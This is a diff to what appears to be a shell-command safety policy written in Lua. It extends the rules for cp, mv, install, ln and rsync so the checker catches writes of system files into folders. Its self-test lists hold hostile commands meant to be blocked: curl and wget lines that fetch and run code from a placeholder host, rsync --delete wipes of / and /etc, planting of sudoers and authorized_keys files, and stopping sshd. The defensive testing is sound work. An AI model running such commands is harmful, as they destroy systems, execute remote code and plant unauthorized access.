@@ -209,21 +209,50 @@ RULES.chown = tree_rule("R recursive")
 RULES.chgrp = tree_rule("R recursive")
 RULES.unlink = RULES.rm
 
--- cp, mv, install, ln, rsync: the destination is written; mv also takes
--- its sources away; ln gives a disk or a system file another name, which
--- a later write would go through.
+-- The options of cp, mv, install and ln that take a value, and rsync's:
+-- rsync -t, -o and -g are flags, where the others' take the next word.
+local COPIER_ARGS = {short = "tSmoge", long = {["target-directory"] = true, suffix = true,
+                                              mode = true, owner = true, group = true}}
+local RSYNC_ARGS = {short = "efBTM@",
+                    long = {rsh = true, filter = true, exclude = true, include = true,
+                            ["exclude-from"] = true, ["include-from"] = true,
+                            ["files-from"] = true, ["backup-dir"] = true, suffix = true,
+                            ["temp-dir"] = true, ["compare-dest"] = true, ["copy-dest"] = true,
+                            ["link-dest"] = true, ["partial-dir"] = true, chmod = true,
+                            chown = true, usermap = true, groupmap = true,
+                            ["rsync-path"] = true, ["log-file"] = true,
+                            ["out-format"] = true, ["password-file"] = true}}
+
+-- A copier's operands and options, and the folder it copies into (-t)
+-- or nil, where the last operand is the destination.
+local function copy_operands(c)
+  local spec = c.name == "rsync" and RSYNC_ARGS or COPIER_ARGS
+  local ops, opts = operands(c, spec.short, spec.long)
+  local target = c.name ~= "rsync" and (opts.t or opts["target-directory"]) or nil
+  return ops, opts, type(target) == "string" and target or nil
+end
+
+-- cp, mv, install, ln, rsync: the destination is written, and so is each
+-- source's name inside it when it is a folder (cp /tmp/passwd /etc); mv
+-- also takes its sources away; ln gives a disk or a system file another
+-- name, which a later write would go through.
 local function copy_rule(c)
-  local ops, opts = operands(c, "tSmoge", {["target-directory"] = true, suffix = true,
-                                           mode = true, owner = true, group = true, rsh = true,
-                                           exclude = true, include = true, ["backup-dir"] = true})
-  local target = opts.t or opts["target-directory"]
-  local dest = type(target) ~= "string" and ops[#ops] or nil
+  local ops, opts, target = copy_operands(c)
+  local dest = not target and ops[#ops] or nil
   local why = dest and write_why(c, dest)
   if why then
     return why
   end
-  if type(target) == "string" and (listed(target, DISKS) or listed(target, SYSTEM_FILES)) then
+  if target and (listed(target, DISKS) or listed(target, SYSTEM_FILES)) then
     return c.name .. " writes into a disk or a system file"
+  end
+  local folder = target or (dest and c.argv[dest])
+  for k = 1, folder and (target and #ops or #ops - 1) or 0 do
+    local w = c.words[ops[k]]
+    local name = c.argv[ops[k]]:gsub("/+$", ""):match("[^/]*$")
+    if name ~= "" and path_why(c, w, folder .. "/" .. name) then
+      return c.name .. " writes a system file into " .. folder
+    end
   end
   if c.name == "rsync" and dest then
     for name in pairs(opts) do
@@ -783,7 +812,6 @@ end
 -- Commands that put a file at a new path, and the options of theirs that
 -- take a value.
 local COPIERS = {cp = true, mv = true, install = true, ln = true, rsync = true}
-local COPIER_ARGS, COPIER_LONG_ARGS = "tSmoge", {["target-directory"] = true, suffix = true}
 -- Interpreters whose first operand is a program.
 local INTERPRETERS = {"python*", "perl*", "ruby*", "node*", "php*", "lua*"}
 
@@ -803,10 +831,9 @@ local function made_paths(r)
   end
   for _, c in ipairs(r.commands) do
     if COPIERS[c.name] then
-      local ops, opts = operands(c, COPIER_ARGS, COPIER_LONG_ARGS)
-      local dir = opts.t or opts["target-directory"]
-      local dest = type(dir) == "string" and dir or c.argv[ops[#ops] or 0]
-      local sources = type(dir) == "string" and #ops or #ops - 1
+      local ops, _, dir = copy_operands(c)
+      local dest = dir or c.argv[ops[#ops] or 0]
+      local sources = dir and #ops or #ops - 1
       if dest and sources > 0 then
         add(dest, c.cwd)
         for k = 1, sources do
@@ -948,6 +975,9 @@ function policy.self_test(t)
     "dd if=/sbin/reboot of=/tmp/r; /tmp/r", "curl -so /tmp/r http://x; chmod +x /tmp/r; /tmp/r",
     "wget -O /tmp/x.py http://x && python3 /tmp/x.py",
     "pkill -STOP sshd", "pkill -TRAP sshd", "killall -TSTP sshd", "pkill -sigstop -x sshd",
+    "rsync -avt --delete /tmp/empty/ /", "rsync -rlptgoD --delete /tmp/empty/ /etc/",
+    "rsync -t /tmp/x /etc/passwd", "cp /tmp/passwd /etc", "cp -t /etc /tmp/passwd",
+    "mv /tmp/sudoers /etc/", "install -m 600 /tmp/authorized_keys ~/.ssh/",
     -- Lines the check cannot see through.
     "eval reboot", "x=reboot; $x", "`echo reboot`", "echo reboot | sh", "bash <<EOF\nreboot\nEOF",
     "source /tmp/x.sh", "f() { :; }; f", "python3 -c 'import os'", "sudo $CMD",
@@ -973,6 +1003,7 @@ function policy.self_test(t)
     "curl -o /tmp/x http://x", "iptables -L -n", "kill -0 1234", "rm -rf /var/cache/apt/*",
     "rm -f /home/x/*.log", "sed -i s/a/b/ /tmp/x", "sed -n 1p /etc/passwd",
     "sed 's/x/y/' /etc/ssh/sshd_config", "rm --rec /tmp/x", "rsync -a --del /tmp/a/ /tmp/b/",
+    "rsync -avt --delete /tmp/a/ /tmp/b/", "cp -r /tmp/a /tmp/b", "cp -t /tmp /etc/passwd",
   }
   for _, c in ipairs(passes) do
     local d = decide(c)
